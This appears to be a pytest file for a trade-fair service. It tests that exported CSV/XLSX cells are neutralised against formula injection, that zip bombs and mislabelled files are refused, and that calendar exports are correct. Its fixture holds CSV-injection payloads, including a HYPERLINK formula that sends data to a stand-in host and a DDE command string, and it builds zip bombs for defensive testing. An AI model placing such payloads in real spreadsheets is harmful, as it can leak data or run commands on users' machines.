"""Files in and out of a fair (issue 13): exported cells never run as formulas, odd or hostile
uploads are read or refused by what they are, calendars carry their time zone, ids and calendar
UIDs are never reused."""

import csv
import io
import re
import zipfile
from typing import Any

import icalendar
import openpyxl
import pytest
from fastapi.testclient import TestClient

from service.fairs import filetypes
from service.fairs.filetypes import detect_format
from service.fairs.spreadsheets import parse
from tests.conftest import SQLITE_ONLY
from tests.fairs.conftest import event_body, wait_for

FORMULA = re.compile(r"[=+\-@\t\r]")
HOSTILE = [
    # external_id, name, role, description, city, contact_phone, products, must_meet
    ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Alpha")', "supplier",
     "Hotpot base and chili oil maker.", "@SUM(A1)", "+86 23 6000 1001",
     "Hotpot base [2103.90]", ""],
    ["b1", "+cmd|' /C calc'!A0", "buyer", "\r=cmd| evil", "-2+3", "\t=1", "", "=1+1"],
    ["b2", "@SUM(A1:A9)", "buyer", "Importer of hotpot base and chili oil.", "'=already", "",
     "", "=1+1"],
]  # fmt: skip
COLUMNS = [
    "external_id",
    "name",
    "role",
    "description",
    "city",
    "contact_phone",
    "products",
    "must_meet",
]


def _csv(rows: list[list[str]], newline: str = "\r\n") -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator=newline).writerows([COLUMNS, *rows])
    return out.getvalue().encode()


def _import(
    client: TestClient, admin: dict[str, str], event_id: int, data: bytes, name: str
) -> Any:
    return client.post(
        f"/events/{event_id}/imports", headers=admin, files={"file": (name, data, "text/csv")}
    )


def _planned(client: TestClient, admin: dict[str, str], data: bytes) -> int:
    event = client.post("/events", json=event_body(), headers=admin).json()
    reply = _import(client, admin, event["id"], data, "people.csv")
    assert reply.status_code == 202, reply.text
    wait_for(client, reply.json())
    wait_for(client, client.post(f"/events/{event['id']}/match-lists", headers=admin).json())
    wait_for(client, client.post(f"/events/{event['id']}/schedule", headers=admin).json())
    return int(event["id"])


def _cells_of_csv(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _cells_of_xlsx(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    return cells


@SQLITE_ONLY
def test_exported_cells_never_start_a_formula(client: TestClient, admin: dict[str, str]) -> None:
    event_id = _planned(client, admin, _csv(HOSTILE))
    assert client.get(f"/events/{event_id}/meetings", headers=admin).json(), "nothing planned"
    for what in ("participants", "grid"):
        text = client.get(f"/events/{event_id}/{what}.csv", headers=admin)
        cells = _cells_of_csv(text.content)
        assert not [c for c in cells if FORMULA.match(c)], what
        assert any(c.startswith("'=HYPERLINK") for c in cells), what  # neutralised, not lost
        book = client.get(f"/events/{event_id}/{what}.xlsx", headers=admin)
        risky = [c for c in _cells_of_xlsx(book.content) if FORMULA.match(str(c.value or ""))]
        assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky), what
    # the participant export imports back to the same profiles, neutralising undone
    again = _import(
        client,
        admin,
        event_id,
        client.get(f"/events/{event_id}/participants.csv", headers=admin).content,
        "p.csv",
    )
    assert wait_for(client, again.json())["result"]["unchanged"] == 3
    names = {e["name"] for e in client.get("/enterprises").json()["items"]}
    assert names == {r[1] for r in HOSTILE}


@SQLITE_ONLY
def test_a_csv_with_old_mac_line_endings_imports(client: TestClient, admin: dict[str, str]) -> None:
    event = client.post("/events", json=event_body(), headers=admin).json()
    rows = [["s1", "Dean Hotpot", "supplier", "Hotpot base", "", "", "", ""],
            ["b1", "Rhein Asia", "buyer", "Importer", "", "", "", ""]]  # fmt: skip
    reply = _import(client, admin, event["id"], _csv(rows, newline="\r"), "mac.csv")
    assert reply.status_code == 202, reply.text
    assert wait_for(client, reply.json())["result"]["created"] == 2


@SQLITE_ONLY
def test_an_unreadable_csv_is_a_422_naming_the_file(
    client: TestClient, admin: dict[str, str]
) -> None:
    event = client.post("/events", json=event_body(), headers=admin).json()
    broken = b'external_id,name,role\n"a,b' + b"x" * (200 * 1024) + b"\n"  # unterminated quote
    reply = _import(client, admin, event["id"], broken, "broken.csv")
    assert reply.status_code == 422 and reply.json()["detail"].startswith("file:")


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return buffer.getvalue()


def _declared_size(data: bytes, size: int) -> bytes:
    """The same zip with each entry's uncompressed size in the central directory rewritten."""
    out = bytearray(data)
    at = out.find(b"PK\x01\x02")
    while at != -1:
        out[at + 24 : at + 28] = size.to_bytes(4, "little")
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def test_xlsx_zip_bombs_are_refused_before_the_workbook_is_opened() -> None:
    sheet = "xl/worksheets/sheet1.xml"
    ratio = _zip({"[Content_Types].xml": b"<Types/>", sheet: b"\0" * (20 * 1024 * 1024)})
    with pytest.raises(ValueError, match="compression ratio"):
        parse(ratio, "xlsx")
    huge = _declared_size(_zip({"[Content_Types].xml": b"<Types/>", sheet: b"<x/>" * 64}), 2**31)
    with pytest.raises(ValueError, match="uncompressed"):
        parse(huge, "xlsx")
    many = _zip({f"xl/media/{i}.xml": b"" for i in range(filetypes.MAX_ZIP_ENTRIES + 1)})
    with pytest.raises(ValueError, match="entries"):
        parse(many, "xlsx")


def test_the_file_type_is_sniffed_from_its_bytes_not_its_name() -> None:
    book = openpyxl.Workbook()
    book.active.append(["external_id", "name", "role"])
    book.active.append(["x1", "Acme", "buyer"])
    buffer = io.BytesIO()
    book.save(buffer)
    xlsx, text = buffer.getvalue(), b"external_id,name,role\nx1,Acme,buyer\n"
    assert detect_format(xlsx) == "xlsx"
    assert detect_format(text) == "csv"
    for data, why in (
        (b"%PDF-1.7\n...", "PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64, "save it as .xlsx"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 16, "not a CSV or XLSX"),
        (_zip({"word/document.xml": b"<w/>"}), "not an XLSX workbook"),
    ):
        with pytest.raises(ValueError, match=why):
            detect_format(data)


@SQLITE_ONLY
def test_calendars_carry_the_vtimezone_they_name(client: TestClient, admin: dict[str, str]) -> None:
    event_id = _planned(client, admin, _csv(HOSTILE))
    events = 0
    for p in client.get(f"/events/{event_id}/participants").json()["items"]:
        url = f"/events/{event_id}/participants/{p['id']}/agenda.ics"
        cal = icalendar.Calendar.from_ical(client.get(url, headers=admin).content)
        zones = {str(tz["tzid"]) for tz in cal.walk("VTIMEZONE")}
        used = {ev["dtstart"].params["TZID"] for ev in cal.walk("VEVENT")}
        assert used <= zones and (not used or zones == {"Asia/Shanghai"}), (used, zones)
        events += len(cal.walk("VEVENT"))
    assert events


def test_a_recreated_event_gets_a_new_id_and_new_calendar_uids(
    client: TestClient, admin: dict[str, str]
) -> None:
    def uids(event_id: int) -> set[str]:
        out: set[str] = set()
        for p in client.get(f"/events/{event_id}/participants").json()["items"]:
            url = f"/events/{event_id}/participants/{p['id']}/agenda.ics"
            cal = icalendar.Calendar.from_ical(client.get(url, headers=admin).content)
            out |= {str(ev["uid"]) for ev in cal.walk("VEVENT")}
        return out

    first = _planned(client, admin, _csv(HOSTILE))
    before = uids(first)
    assert before
    assert client.delete(f"/events/{first}", headers=admin).status_code == 204
    second = _planned(client, admin, _csv(HOSTILE))
    assert second != first
    assert not uids(second) & before


@SQLITE_ONLY
def test_session_times_with_a_utc_offset_are_converted_to_the_event_zone(
    client: TestClient, admin: dict[str, str]
) -> None:
    body = event_body()
    body["sessions"] = [
        {"starts_at": "2025-05-20T09:00:00+08:00", "ends_at": "2025-05-20T04:00:00Z"},
        {"starts_at": "2025-05-20T09:30", "ends_at": "2025-05-20T09:45", "is_break": True},
    ]
    reply = client.post("/events", json=body, headers=admin)
    assert reply.status_code == 201, reply.text
    sessions = reply.json()["sessions"]
    assert (sessions[0]["starts_at"], sessions[0]["ends_at"]) == (
        "2025-05-20T09:00:00",
        "2025-05-20T12:00:00",
    )
    patched = client.patch(
        f"/events/{reply.json()['id']}",
        json={
            "sessions": [{"starts_at": "2025-05-20T02:00:00+01:00", "ends_at": "2025-05-20T12:00"}]
        },
        headers=admin,
    )
    assert patched.status_code == 200, patched.text
    assert patched.json()["sessions"][0]["starts_at"] == "2025-05-20T09:00:00"
